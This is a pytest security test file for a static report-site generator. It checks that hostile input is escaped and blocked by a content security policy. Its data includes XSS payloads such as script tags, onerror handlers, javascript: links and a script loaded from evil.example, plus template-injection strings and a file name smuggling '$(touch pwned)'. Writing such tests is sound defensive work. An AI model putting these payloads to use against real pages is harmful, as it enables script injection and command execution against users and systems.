"""Whatever words come from outside: nothing runs, nothing is asked of a network, nothing breaks the page."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from samples import Tags, Visit
from typer.testing import CliRunner

from checks.cli import app
from checks.library.collect import Item, collect, resolve
from checks.report.facts import Known
from checks.report.site import site_files, write_site
from checks.report.words import cut, symbols, typeset, visible
from checks.store.results import report
from checks.store.shelf import Shelf
from checks.studies.constants import Sharpest
from checks.studies.mutation import Fate, Fates
from checks.verdicts import Evidence, Result, Verdict, judge

WORDS = (
    "<script>window.pwned = true</script>",
    "</title></style></textarea><script src=//evil.example/x.js></script>",
    "\"' onmouseover=\"window.pwned=true\" style='background:url(//evil.example)'",
    "<img src=x onerror=window.pwned=true>",
    '<a href="javascript:window.pwned=true">[x](javascript:pwned)</a>',
    "{{ 7 * 7 }} {% raw %} ${7*7} <!-- ]]>",
    "\x00\x07\x1b[31m\x85 \u202eevil\u202c \u2066x\u2069 \ufeff \ue000 \ue001",
    "half a character \ud800 and \udfff",
    "W" * 3000,
    "x^{<b>} y_{<i>} a_<u> \\href{javascript:pwned}{x} &lt;script&gt;",
    "很长" * 2000,
)
NAME = "we ird \"'><img src=x onerror=window.pwned=true> $(touch pwned) ü.py"
FILE = """
from sympy import Rational, Symbol
from derivations import Bound, Paper

x = Symbol("x", real=True)
WORDS = {words!r}
paper = Paper("wild", title="".join(WORDS), authors=WORDS[0], reference=WORDS[1], conventions=dict(zip(WORDS, WORDS)),
    hypotheses=dict(zip(WORDS, WORDS)),
    statements=tuple(
        Bound(f"s{{n}}", x * (1 - x), Rational(1, 4), on={{x: (0, 1)}}, title=word, source=word, assumes=WORDS,
              uses=(f"s{{n - 1}}",) if n else ())
        for n, word in enumerate(WORDS)
    ))
"""


def known_of(items: list[Item]) -> Known:
    """Evidence, constants and mutants of which every word is hostile."""
    everything = "".join(WORDS)
    results, mutants, constants = {}, {}, {}
    for n, item in enumerate(items):
        s, word = resolve(item), WORDS[n]
        data: dict[str, Any] = {"proof": [word, everything], "theorem": everything, "remarks": [word], "sharpest": word}
        found = (
            Evidence(word, Verdict.VERIFIED, word, float("nan"), float("inf"), witness=everything, data=data),
            Evidence("rocq", Verdict.VERIFIED, everything, -1e-300, 1e308, data=data),
            Evidence("search", Verdict.REFUTED, word, witness=word, seed=-1, seconds=float("inf")),
        )
        results[s.id] = Result(s.id, item.paper, s.kind, s.source, s.fingerprint, found, *judge(found)[:2], everything)
        mutants[s.id] = Fates(s.id, (Fate(s.id, word, word, word, everything),) * 3)
        constants[s.id] = Sharpest(s.id, word, word, word, 1.0, float("nan"), 2.0, everything, word, float("nan"), word)
    return Known(results, constants, mutants)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("hostile")
    (made / NAME).write_text(FILE.format(words=WORDS), encoding="utf-8")
    return made


@pytest.fixture
def wild_items(home: Path, monkeypatch: pytest.MonkeyPatch) -> list[Item]:
    monkeypatch.chdir(home)
    return collect([NAME])


@pytest.fixture
def wild(home: Path, wild_items: list[Item]) -> Path:
    """A site of hostile words, in a folder with a hostile name; it is written once."""
    folder = home / "the <b>site</b> ü"
    return folder if folder.exists() else write_site(folder, wild_items, known_of(wild_items)).index.parent


def test_no_word_is_an_element_or_an_attribute(wild: Path) -> None:
    pages = sorted(wild.rglob("*.html"))
    assert len(pages) == 2 + len(WORDS)
    for page in pages:
        text = page.read_text(encoding="utf-8")
        found = Tags(text)
        assert not found.open, page
        assert [a.get("src") for tag, a in found.tags if tag == "script"] == [
            f"{'' if page.name == 'index.html' else '../'}static/page.js"
        ]
        assert not {"iframe", "img", "object", "embed", "base", "b-x", "i", "u"} & {tag for tag, _ in found.tags}
        for tag, attributes in found.tags:
            assert not any(name.startswith("on") or name == "style" for name in attributes), (page, tag, attributes)
            assert not str(attributes.get("href", "")).strip().startswith(("javascript:", "//"))
        assert not any((ord(ch) < 32 and ch != "\n") or ch in "\x85\u202e\u2066\ufeff\ud800" for ch in text)
        assert "W" * 2001 not in re.sub(r"<pre.*?</pre>", "", text, flags=re.DOTALL), "long remarks are cut"
        assert len(text) < 1_500_000


def test_commands_are_quoted_for_a_shell(wild: Path, wild_items: list[Item]) -> None:
    import html
    import shlex

    text = html.unescape((wild / "statements" / "wild.s0.html").read_text(encoding="utf-8"))
    line = next(line for line in text.split("<code>") if line.startswith("lemmata check")).split("</code>")[0]
    assert shlex.split(line) == ["lemmata", "check", NAME]


def test_a_browser_runs_and_asks_for_nothing(browser: Any, wild: Path) -> None:
    window = Visit(browser, wild, viewport={"width": 375, "height": 800})
    asked: list[str] = []
    window.page.on("request", lambda r: asked.append(r.url))
    paths = (
        "index.html",
        "index.html#view=list",
        "papers/wild.html",
        *(f"statements/wild.s{n}.html" for n in range(11)),
    )
    for path in paths:
        page = window.go(path)
        page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
        page.wait_for_timeout(30)
        assert page.evaluate("document.documentElement.scrollWidth") <= 375, path
        assert page.evaluate("window.pwned") is None
    page = window.go("index.html")
    page.fill("#q", WORDS[0])
    assert page.locator("#view-list li:visible").count() == 1
    assert window.said == []
    assert {url.split(":")[0] for url in asked} <= {"file", "data"}
    assert all(url.startswith((wild.as_uri(), "data:")) for url in asked)
    window.context.close()


def test_the_policy_forbids_inline_scripts_and_any_network(browser: Any, site: Path) -> None:
    """Even if a word got through: the page would not run it, nor load or send anything."""
    window = Visit(browser, site)
    page = window.go("statements/liu2019.kernel.html")
    page.evaluate(
        """() => {
        const script = document.createElement("script");
        script.textContent = "window.pwned = true";
        document.body.append(script);
        const box = document.createElement("div");
        box.innerHTML = "<img src='http://127.0.0.1:9/x.png' onerror='window.pwned = true'><b style='color: red'>x</b>";
        document.body.append(box);
        }"""
    )
    refused = page.evaluate("fetch('http://127.0.0.1:9/').then(() => false, () => true)")
    page.wait_for_timeout(100)
    assert refused
    assert page.evaluate("window.pwned") is None
    said = "\n".join(window.said)
    for directive in ("script-src", "img-src", "style-src", "connect-src"):
        assert directive in said, said
    assert "ERR_CONNECTION" not in said
    window.context.close()


def test_results_from_a_file_may_say_anything(wild_items: list[Item], tmp_path: Path) -> None:
    """Of the right shape, but with odd types and megabytes of text."""
    known = known_of(wild_items)
    data = json.loads(json.dumps(report(list(known.results.values()), seed=0, device="cpu")))
    first = data["statements"][0]["evidence"][0]
    first |= {"detail": "long " * 1_000_000, "witness": {"a": [1]}, "data": {"proof": [[1], None], "theorem": ["x"]}}
    path = tmp_path / "odd.json"
    path.write_text(json.dumps(data))
    outcome = CliRunner().invoke(app, ["report", NAME, "-o", str(tmp_path / "odd"), "--json", str(path)])
    assert outcome.exit_code == 0, outcome.output
    page = (tmp_path / "odd" / "statements" / "wild.s0.html").read_text(encoding="utf-8")
    assert "more characters)" in page
    assert len(page) < 1_000_000


def test_what_is_remembered_of_hypotheses_may_be_damaged(wild_items: list[Item]) -> None:
    statement = resolve(wild_items[0])
    denial = {"hypothesis": 5, "needed": True, "detail": None, "witness": [1], "again": {"a": WORDS[0]}}
    stored = {"statement": statement.id, "fingerprint": statement.fingerprint, "satisfied": 7, "denials": [denial]}
    Shelf("hypotheses").put({statement.id: stored})
    files, _ = site_files(wild_items[:1], Known())
    assert b"All hold at 7" in files["statements/wild.s0.html"]
    assert WORDS[0].encode() not in files["statements/wild.s0.html"]


def test_a_statement_with_a_huge_expression(tmp_path: Path) -> None:
    path = tmp_path / "huge.py"
    path.write_text(
        "from sympy import Symbol, symbols, Add\n"
        "from derivations import Identity, Paper\n"
        "xs = [Symbol(f'x_{n}', real=True) for n in range(1500)]\n"
        "total = Add(*xs)\n"
        "paper = Paper('huge', statements=(Identity('sum', total + total, 2 * total),))\n"
    )
    files, _ = site_files(collect([str(path)]), Known())
    assert len(files["statements/huge.sum.html"]) < 5_000_000
    assert len(files["index.html"]) < 20_000


def test_words_are_made_fit() -> None:
    assert visible("a\x00b\r\nc\u202ed\ud800") == "a⟨U+0000⟩b\nc⟨U+202E⟩d⟨U+D800⟩"
    assert cut("x" * 2001) == "x" * 2000 + "… (1 more characters)"
    assert symbols("phi = 5*pi/12, a* = sqrt(2) <= sqrt(x + 1), epsilons 2**k") == (
        "φ = 5·π/12, a* = √2 ≤ sqrt(x + 1), epsilons 2^k"
    )


@pytest.mark.parametrize(
    ("words", "drawn"),
    [
        ("at rate N^(−1/2)", "at rate N<sup>−1/2</sup>"),
        ("λ_min(K^(3))", "λ<sub>min</sub>(K<sup>(3)</sup>)"),
        ("J_{l+1}D_lD_lᵀ", "J<sub>l+1</sub>D<sub>l</sub>D<sub>l</sub>ᵀ"),
        ("∇_{W_L}ℓ", "∇<sub>W<sub>L</sub></sub>ℓ"),
        ("e^{−2u} m^-1", "e<sup>−2u</sup> m<sup>−1</sup>"),
        ("not_parallel, my_file.py", "not_parallel, my_file.py"),
        ("<i>^2 a_1<b>", "&lt;i&gt;<sup>2</sup> a<sub>1</sub>&lt;b&gt;"),
        ("\ue000x\ue003", "x"),
    ],
)
def test_powers_and_indices_in_words(words: str, drawn: str) -> None:
    assert typeset(words) == drawn
